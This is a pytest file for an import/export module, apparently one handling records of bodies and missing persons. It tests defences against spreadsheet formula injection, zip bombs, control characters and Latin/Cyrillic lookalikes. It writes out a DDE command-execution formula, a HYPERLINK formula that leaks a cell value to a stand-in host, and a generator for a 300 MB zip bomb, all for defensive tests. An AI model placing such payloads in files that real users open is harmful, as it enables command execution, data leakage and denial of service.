"""Issue 10, items 9-12: hostile cells in imports and exports (formulas, control characters, lookalikes)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from homecoming.errors import ImportFileError
from homecoming.io.intake import read_intake, write_intake
from homecoming.io.manifests import read_manifest, write_manifest
from homecoming.io.persons import read_persons, write_persons
from homecoming.io.tables import csv_safe, looks_like_formula, write_table

# synthetic data only
HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"x")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = (HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)")


def xlsx_cells(data: bytes) -> list[tuple[object, str]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for row in book.worksheets[0].iter_rows() for c in row]


@pytest.mark.parametrize("value", FORMULAS)
def test_an_xlsx_export_holds_formula_like_text_as_text(value: str) -> None:
    out = io.BytesIO()
    write_table(["name", "count"], [[value, "-5"]], out, fmt="xlsx", sheet="t")
    cells = xlsx_cells(out.getvalue())
    assert (value, "s") in cells
    assert all(kind != "f" for _, kind in cells)


@pytest.mark.parametrize("value", FORMULAS)
def test_a_csv_export_prefixes_formula_like_text_and_keeps_numbers(value: str) -> None:
    out = io.StringIO(newline="")
    write_table(["name", "count", "phone"], [[value, "-5", "+380 67 123 45 67"]], out, fmt="csv", sheet="t")
    record = list(csv.reader(io.StringIO(out.getvalue())))[1]
    assert record == ["'" + value, "-5", "+380 67 123 45 67"]


def test_csv_safe_follows_owasp() -> None:
    assert csv_safe("\tx") == "'\tx"
    assert csv_safe("\rx") == "'\rx"
    assert csv_safe("-1.5") == "-1.5"
    assert csv_safe("1e5") == "1e5"
    assert csv_safe("Шевченко") == "Шевченко"
    assert csv_safe(None) == ""
    assert not looks_like_formula("- see the letter")
    assert not looks_like_formula("-17")
    assert looks_like_formula("-A1")


def test_every_export_writes_formula_like_names_inertly(tmp_path: Path) -> None:
    person = {"family_name": HYPERLINK, "given_name": DDE}
    for fmt in ("csv", "xlsx"):
        out = io.BytesIO()
        write_persons([person], out, fmt=fmt)  # type: ignore[arg-type]
        check_inert(out.getvalue(), fmt)
        out = io.BytesIO()
        write_intake([{"bag_number": "B-1", "kind": "body", "place": HYPERLINK}], out, fmt=fmt)  # type: ignore[arg-type]
        check_inert(out.getvalue(), fmt)
        check_inert(write_manifest([{"category": "bodies", "claimed_name": DDE}], fmt=fmt), fmt)  # type: ignore[arg-type]


def check_inert(data: bytes, fmt: str) -> None:
    if fmt == "xlsx":
        cells = xlsx_cells(data)
        assert all(kind != "f" for _, kind in cells), cells
        assert any(isinstance(v, str) and v.startswith("=") for v, _ in cells)
    else:
        for record in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            assert not any(looks_like_formula(cell) for cell in record), record


def test_an_export_survives_control_characters_already_stored() -> None:
    out = io.BytesIO()
    write_table(["name"], [["a\x00b\x07c\x1bd"]], out, fmt="xlsx", sheet="t")
    assert xlsx_cells(out.getvalue())[1] == ("a\ufffdb\ufffdc\ufffdd", "s")
    text = io.StringIO(newline="")
    write_table(["name"], [["a\x00b"]], text, fmt="csv", sheet="t")
    assert "\x00" not in text.getvalue()


PERSONS_HEADER = "family_name,given_name,notes\n"


@pytest.mark.parametrize("value", FORMULAS)
def test_a_person_list_with_a_formula_is_refused_naming_the_cell(tmp_path: Path, value: str) -> None:
    path = tmp_path / "list.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["family_name", "given_name"], ["Shevchenko", "Taras"], [value, "Ivan"]])
    with pytest.raises(ImportFileError) as caught:
        read_persons(path)
    [problem] = caught.value.problems
    assert (problem.row, problem.field) == (3, "family_name")
    assert problem.message == "starts like a spreadsheet formula"
    assert problem.value == value
    assert "remove the leading" in problem.hint


def test_intake_and_manifest_files_with_a_formula_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "intake.csv"
    path.write_text(f'bag_number,kind,place\nB-1,body,"{DDE}"\n', encoding="utf-8")
    with pytest.raises(ImportFileError) as caught:
        read_intake(path)
    assert [(p.row, p.field) for p in caught.value.problems] == [(2, "place")]
    data = f'category,claimed_name\nbodies,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n'.encode()
    with pytest.raises(ImportFileError) as caught:
        read_manifest("m.csv", data)
    assert [(p.row, p.field, p.value) for p in caught.value.problems] == [(2, "claimed_name", HYPERLINK)]


def test_negative_numbers_and_signed_notes_still_import(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("family_name,given_name,notes\nShevchenko,Taras,- see the letter\n", encoding="utf-8")
    assert read_persons(path)[0].notes == "- see the letter"


# ---------------------------------------------------------------- item 10: tracebacks and limits


def refused(read: object, *args: object) -> ImportFileError:
    with pytest.raises(ImportFileError) as caught:
        read(*args)  # type: ignore[operator]
    return caught.value


def test_a_cell_over_the_csv_field_limit_is_a_named_error() -> None:
    data = b"category,claimed_name\nbodies," + b"x" * 140_000 + b"\n"
    error = refused(read_manifest, "huge.csv", data)
    assert "huge.csv: row 2: a cell is longer than 10000 characters" in error.message


def test_a_cell_over_the_configured_limit_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOMECOMING_IMPORT_MAX_CELL_CHARS", "50")
    error = refused(read_manifest, "m.csv", b"category,claimed_name\nbodies," + b"y" * 51 + b"\n")
    assert "row 2, column B: a cell is longer than 50 characters" in error.message


def test_row_and_file_size_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOMECOMING_IMPORT_MAX_ROWS", "3")
    data = b"category,claimed_name\n" + b"bodies,A\n" * 4
    assert "has more than 3 rows" in refused(read_manifest, "m.csv", data).message
    monkeypatch.setenv("HOMECOMING_IMPORT_MAX_BYTES", "10")
    assert "more than the limit of 10 bytes" in refused(read_manifest, "m.csv", data).message


def xlsx(rows: list[list[str]]) -> bytes:
    """An XLSX as a spreadsheet writes it (with the sheet's <dimension>)."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def malformed_xlsx() -> bytes:
    import zipfile

    good = xlsx([["category", "claimed_name"], *[["bodies", f"N{i}"] for i in range(50)]])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            content = src.read(info)
            if info.filename.startswith("xl/worksheets/"):
                content = content.replace(b"</sheetData>", b"<row r=<<<</sheetData>")
            dst.writestr(info, content)
    return out.getvalue()


def test_malformed_sheet_xml_is_a_named_error_not_a_traceback() -> None:
    error = refused(read_manifest, "broken.xlsx", malformed_xlsx())
    assert error.message.startswith("broken.xlsx: cannot be read as XLSX: the sheet is damaged")


def zip_bomb(unzipped: int) -> bytes:
    import zipfile

    out = io.BytesIO()
    good = io.BytesIO()
    write_table(["category", "claimed_name"], [["bodies", "A"]], good, fmt="xlsx", sheet="m")
    with (
        zipfile.ZipFile(io.BytesIO(good.getvalue())) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            content = src.read(info)
            if info.filename.startswith("xl/worksheets/"):
                row = b'<row><c t="inlineStr"><is><t>bodies</t></is></c></row>'
                head, tail = content.split(b"</sheetData>")
                content = head + row * (unzipped // len(row)) + b"</sheetData>" + tail
            dst.writestr(info.filename, content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def test_a_zip_bomb_is_refused_from_the_zip_directory_before_parsing() -> None:
    bomb = zip_bomb(300 * 1024 * 1024)
    assert len(bomb) < 2 * 1024 * 1024
    error = refused(read_manifest, "bomb.xlsx", bomb)
    assert "unzips to" in error.message and "more than the limit of 200.0 MB" in error.message


@pytest.mark.parametrize(
    ("cell", "code"),
    [("Iv\x00an", "U+0000"), ("Iv\x07an", "U+0007"), ("Iv\x1ban", "U+001B"), ("a\u202eb", "U+202E")],
)
def test_nul_and_control_characters_are_refused_naming_the_character(
    tmp_path: Path, cell: str, code: str
) -> None:
    path = tmp_path / "list.csv"
    path.write_text(f"family_name,given_name\nShevchenko,{cell}\n", encoding="utf-8")
    [problem] = refused(read_persons, path).problems
    assert (problem.row, problem.field, problem.message) == (
        2,
        "given_name",
        f"holds the control character {code}",
    )


def test_a_word_mixing_latin_and_cyrillic_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("family_name,given_name\nShevchenko,Tарас\nШевченко,Тарас\nCafé,Zoë\n", encoding="utf-8")
    [problem] = refused(read_persons, path).problems
    assert (problem.row, problem.field) == (2, "given_name")
    assert problem.message == "mixes Latin and Cyrillic letters in the word 'Tарас'"


# ---------------- item 11: duplicates that differ in case, space, script


def test_service_numbers_differing_in_case_or_lookalike_letters_are_duplicates(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text(
        "family_name,given_name,service_number,external_id\n"
        "A,B,ab123456,x-1\nC,D,AB123456,X-2\nE,F,АВ123456,x-3\nG,H,9,X-1\n",
        encoding="utf-8",
    )
    found = [(p.row, p.field, p.message) for p in refused(read_persons, path).problems]
    assert found == [
        (3, "service_number", "duplicates row 2"),
        (4, "service_number", "duplicates row 2"),
        (5, "external_id", "duplicates row 2"),
    ]


def test_bags_differing_in_case_space_or_a_cyrillic_letter_are_one_label(tmp_path: Path) -> None:
    path = tmp_path / "intake.csv"
    path.write_text(
        "bag_number,kind\nua-24-0001,body\n UA-24-0001 ,body\nUА-24-0001,body\n", encoding="utf-8"
    )
    found = [(p.row, p.field, p.message) for p in refused(read_intake, path).problems]
    assert (3, "bag_number", "duplicates row 2") in found
    assert (4, "bag_number", "duplicates row 2") in found
    assert (4, "bag_number", "holds the non-Latin character 'А' (U+0410)") in found


def test_a_container_number_in_another_case_is_a_duplicate() -> None:
    data = "category,container_number\nbodies,bag-1\nbodies,BAG-1 \nbodies,ВАG-1\n".encode()
    found = [(p.row, p.message) for p in refused(read_manifest, "m.csv", data).problems]
    assert (3, "duplicates the bag number of row 2") in found
    assert (4, "duplicates the bag number of row 2") in found


def test_part_of_in_another_case_names_the_container(tmp_path: Path) -> None:
    path = tmp_path / "intake.csv"
    path.write_text("bag_number,kind,part_of\nC-1,container,\nC-1/1,body_part,c-1\n", encoding="utf-8")
    assert read_intake(path)[1].part_of == "C-1"


# ---------------- item 12: messages a spreadsheet user understands


def test_utf16_without_a_bom_is_named() -> None:
    data = "category,claimed_name\nbodies,Шевченко\n".encode("utf-16-le")
    error = refused(read_manifest, "m.csv", data)
    assert error.message == "m.csv: is UTF-16 text, not UTF-8; nothing was imported"
    assert "CSV UTF-8" in error.hint
    assert "UTF-16" in refused(read_manifest, "m.csv", "category\n".encode("utf-16")).message


def test_the_known_column_hint_is_given_once() -> None:
    header = ",".join(f"col{i}" for i in range(10_000))
    error = refused(read_manifest, "m.csv", f"category,{header}\nbodies\n".encode())
    assert str(error).count("known columns:") == 1


def test_a_blank_first_row_says_where_the_header_must_be() -> None:
    error = refused(read_manifest, "m.csv", b"\n\ncategory,claimed_name\nbodies,A\n")
    assert "row 1 is empty: the column names must be in row 1 (found something in row 3)" in error.message
    assert error.hint == "delete the 2 empty rows above the column names"


def test_empty_and_binary_files_are_named() -> None:
    assert "is empty" in refused(read_manifest, "m.csv", b"").message
    assert "is not UTF-8 text" in refused(read_manifest, "m.csv", bytes(range(128, 256)) * 4).message
    assert "cannot be read as XLSX" in refused(read_manifest, "m.xlsx", b"PK\x03\x04garbage").message


def test_a_truncated_csv_ending_inside_a_quoted_cell_is_named(tmp_path: Path) -> None:
    data = b'category,claimed_name,note\nbodies,A,"fine"\nbodies,B,"multi\nline, cut sh'
    error = refused(read_manifest, "cut.csv", data)
    assert "cut.csv: ends inside a quoted cell of row 3" in error.message
    error = refused(read_manifest, "q.csv", b'category,claimed_name\nbodies,"A"B\n')
    assert "q.csv: row 2 cannot be read as CSV" in error.message
    assert read_manifest("ok.csv", b'category,claimed_name\nbodies,O"Neil\n')[0].claimed_name == 'O"Neil'
